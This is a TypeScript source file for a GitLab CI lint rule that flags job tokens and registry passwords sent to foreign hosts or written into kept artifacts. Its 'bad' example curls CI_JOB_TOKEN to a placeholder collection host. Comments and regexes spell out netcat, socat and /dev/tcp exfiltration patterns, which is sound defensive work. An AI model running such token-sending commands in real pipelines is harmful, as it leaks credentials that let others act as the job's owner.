import { z } from 'zod';
import type { Job } from '../ci/config.ts';
import { runnerJobs } from '../ci/runner-jobs.ts';
import { isDownload } from '../shell/download.ts';
import type { CommandWord, JobCommand } from '../shell/job-command.ts';
import { keptBy } from './judging/artifact-paths.ts';
import type { HitDraft } from './judging/hit.ts';
import { addressesIn, hostOf, isForeignHost } from './judging/hosts.ts';
import { commandsThat } from './judging/in-commands.ts';
import { defineRule, type RuleContext } from './rule.ts';

const messages = {
  sent: '{program} sends {value} to {host}, which is not this GitLab.',
  address: 'The address with {value} in it leads to {host}, which is not this GitLab.',
  login: '{program} logs in with {value} at {host}, which is not this GitLab.',
  artifact: '{value} is written to {file}, which the job keeps as an artifact.',
} as const;

type Context = RuleContext<typeof messages>;

export const jobTokenLeaves = defineRule({
  id: 'job-token-leaves',
  summary: 'A token that GitLab gives the job leaves for another host, or for an artifact.',
  why: 'With it anyone can act as whoever started the job for as long as the job runs: read private projects, push images, publish packages.',
  fix: 'Give the other host a token of its own, from a protected and masked variable or `id_tokens`, and write no token into artifacts.',
  blindSpots:
    'Hosts in unknown variables, hosts below the domain of this GitLab, and what scripts of the repository do with the token are not seen.',
  keywords: ['before_script', 'script', 'after_script', 'run', 'artifacts:paths', 'artifacts:reports:dotenv'],
  level: 'error',
  source: 'https://docs.gitlab.com/ci/jobs/ci_job_token/',
  examples: {
    bad: [
      { yaml: 'push:\n  script:\n    - \'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://collect.example.net/x\'\n' },
      { yaml: 'push:\n  script:\n    - docker login -u ci -p $CI_JOB_TOKEN\n' },
    ],
    good: [
      { yaml: 'push:\n  script:\n    - \'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/job"\'\n' },
      { yaml: 'push:\n  script:\n    - docker login -u ci -p $CI_REGISTRY_PASSWORD $CI_REGISTRY\n' },
    ],
  },
  options: z.strictObject({
    allow: z.array(z.string()).default([]).describe('Hosts that may get the token.'),
  }),
  messages,
  *check(config, { allow }, context) {
    const isForeign = (host: string) => !allow.includes(host) && isForeignHost(host, context.serverFqdn);
    for (const job of runnerJobs(config)) {
      for (const command of suspects(job)) {
        // the commands in a text of commands come by themselves
        const named = command.runsText ? [] : command.words.filter((word) => tokenOf(word) !== null);
        if (named.length > 0) yield* sent(job, command, named, isForeign, context);
        yield* fed(job, command, isForeign, context);
        yield* written(job, command, named, isForeign, context);
      }
    }
  },
});

/** Tokens of the job; the password of the registry is one of them. */
const TOKENS = ['CI_JOB_TOKEN', 'CI_REGISTRY_PASSWORD', 'CI_DEPENDENCY_PROXY_PASSWORD'];
const TOKEN = /\$\{?(CI_JOB_TOKEN|CI_REGISTRY_PASSWORD|CI_DEPENDENCY_PROXY_PASSWORD)\b/;

const suspects = commandsThat((command) => {
  return command.hereDocuments.length > 0 || [...command.words, ...inputWords(command)].some(holdsToken);
});

const holdsToken = (word: CommandWord) => tokenOf(word) !== null;

/** Of commands whose output it reads. */
function inputWords({ from }: JobCommand): readonly CommandWord[] {
  return from.flatMap(({ words }) => words);
}

type IsForeign = (host: string) => boolean;

function tokenOf({ names }: CommandWord): string | null {
  return names.length === 0 ? null : (TOKENS.find((name) => names.includes(name)) ?? null);
}

function* sent(
  job: Job,
  command: JobCommand,
  named: readonly CommandWord[],
  isForeign: IsForeign,
  { hit }: Context,
): Iterable<HitDraft> {
  for (const word of named) {
    const host = foreignWithToken(word.text, isForeign);
    const value = `$${tokenOf(word)}`;
    if (host !== null) {
      yield hit(job, word.at, 'address', { value, host }).because(...word.from);
      return;
    }
    const target = isDownload(command) ? targetOf(command) : receiverOf(command);
    if (target === null || !isForeign(target)) continue;
    const message = isLogin(command) ? 'login' : 'sent';
    yield hit(job, word.at, message, { program: command.name, value, host: target }).because(...word.from);
    return;
  }
}

/** `echo $CI_JOB_TOKEN | nc host 80`, `nc host 80 <<< $CI_JOB_TOKEN`, `… | curl -d @- https://host`. */
function* fed(job: Job, command: JobCommand, isForeign: IsForeign, { hit }: Context): Iterable<HitDraft> {
  const host = isDownload(command) ? (sendsInput(command) ? targetOf(command) : null) : receiverOf(command);
  if (host === null || !isForeign(host) || command.runsText) return;
  const message = isLogin(command) ? 'login' : 'sent';
  const word = inputWords(command).find(holdsToken);
  if (word) {
    const values = { program: command.name, value: `$${tokenOf(word)}`, host };
    yield hit(job, word.at, message, values).because(...word.from);
  }
  for (const document of command.hereDocuments) {
    const token = document.quoted ? null : TOKEN.exec(document.text);
    if (!token) continue;
    const at = document.locate({ start: token.index, end: token.index + token[0].length });
    yield hit(job, at, message, { program: command.name, value: `$${token[1]}`, host });
  }
}

const INPUT = /^(?:[\w.-]+=)?@-$|^--(?:post-file|body-file|upload-file)=-$/;

function sendsInput({ words }: JobCommand): boolean {
  return words.some(
    ({ text }, index) =>
      INPUT.test(text) || (text === '-' && /^-T$|^--upload-file$/.test(words[index - 1]?.text ?? '')),
  );
}

/** Where something else than a web client sends what it reads, or logs in. */
function receiverOf(command: JobCommand): string | null {
  return socketHost(command) ?? loginHost(command);
}

const NETCAT = /^(?:nc|ncat|netcat|telnet)$/;
const SOCKET = /^\/dev\/(?:tcp|udp)\/([\w.-]+)\//;
const SOCAT = /^(?:tcp|udp|ssl|openssl)[46]?(?:-connect)?:([\w.-]+):/i;

/** `nc host 80`, `socat - TCP:host:80`, `> /dev/tcp/host/80`. */
function socketHost({ name, words, writesTo }: JobCommand): string | null {
  const socket = writesTo.flatMap(({ text }) => SOCKET.exec(text)?.[1] ?? []);
  if (socket[0] !== undefined) return socket[0].toLowerCase();
  const texts = words.slice(1).map(({ text }) => text);
  if (name === 'socat') return texts.flatMap((text) => SOCAT.exec(text)?.[1] ?? [])[0]?.toLowerCase() ?? null;
  if (!NETCAT.test(name)) return null;
  return (
    texts.find((text) => /^[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(text) && /[a-z]/i.test(text))?.toLowerCase() ?? null
  );
}

/** An address that holds the token itself; netrc names the host in words. */
function foreignWithToken(text: string, isForeign: IsForeign): string | null {
  const holding = addressesIn(text).filter((address) => TOKEN.test(address));
  const hosts = [...holding.map(hostOf), TOKEN.test(text) ? (/\bmachine\s+([\w.-]+)/.exec(text)?.[1] ?? null) : null];
  return hosts.find((host) => host !== null && isForeign(host)) ?? null;
}

/** Options whose word may look like an address, but is none that is asked. */
const NOT_ASKED = /^(?:-[a-zA-Z]*[deFHTxA]|--(?:data.*|form.*|header|referer|proxy|user-agent|output))$/;

function targetOf({ words }: JobCommand): string | null {
  const asked = words.filter((word, index) => {
    return /^[a-z]+:\/\//i.test(word.text) && !NOT_ASKED.test(words[index - 1]?.text ?? '');
  });
  // one of its own takes the token, whatever else is asked
  return asked.length === 1 && asked[0] ? hostOf(asked[0].text) : null;
}

const CLIENTS = new Set(['docker', 'podman', 'buildah', 'skopeo', 'nerdctl', 'crane', 'oras', 'helm', 'regctl']);
const LOGIN_VALUES =
  /^(?:-u|-p|--username|--password|--authfile|--cert-dir|--tlscacert|--config|--registry-config|-H|--host|-c|--context|-l|--log-level)$/;

function isLogin(command: JobCommand): boolean {
  return !isDownload(command) && socketHost(command) === null;
}

/** Of `docker login`; without a host it is Docker Hub's. */
function loginHost({ name, words }: JobCommand): string | null {
  if (!CLIENTS.has(name)) return null;
  const texts = words.map((word) => word.text);
  const login = texts.indexOf('login');
  if (login === -1) return null;
  const rest = texts.slice(login + 1).filter((text, index, all) => {
    return !text.startsWith('-') && !LOGIN_VALUES.test(all[index - 1] ?? '');
  });
  const [server] = rest;
  if (server === undefined) return name === 'docker' || name === 'nerdctl' ? 'docker.io' : null;
  return hostOf(server.includes('//') ? server : `//${server}`);
}

/** Into a file that is kept, and what a here-document or `echo` writes for another host. */
function* written(
  job: Job,
  command: JobCommand,
  named: readonly CommandWord[],
  isForeign: IsForeign,
  { hit }: Context,
): Iterable<HitDraft> {
  const [word] = named;
  const [file] = command.writesTo;
  if (word && file && /^(?:echo|printf|cat)$/.test(command.name)) {
    const kept = keptBy(job, file.text);
    const value = `$${tokenOf(word)}`;
    if (kept) yield hit(job, word.at, 'artifact', { value, file: file.text }).because(kept.source, ...kept.from);
  }
  for (const document of command.hereDocuments) {
    const token = document.quoted ? null : TOKEN.exec(document.text);
    if (!token) continue;
    const at = document.locate({ start: token.index, end: token.index + token[0].length });
    const value = `$${token[1]}`;
    const line = document.text.split('\n').find((each) => TOKEN.test(each)) ?? '';
    const host = foreignWithToken(line, isForeign);
    if (host !== null) yield hit(job, at, 'address', { value, host });
    const kept = file ? keptBy(job, file.text) : null;
    if (kept && file) yield hit(job, at, 'artifact', { value, file: file.text }).because(kept.source, ...kept.from);
  }
}
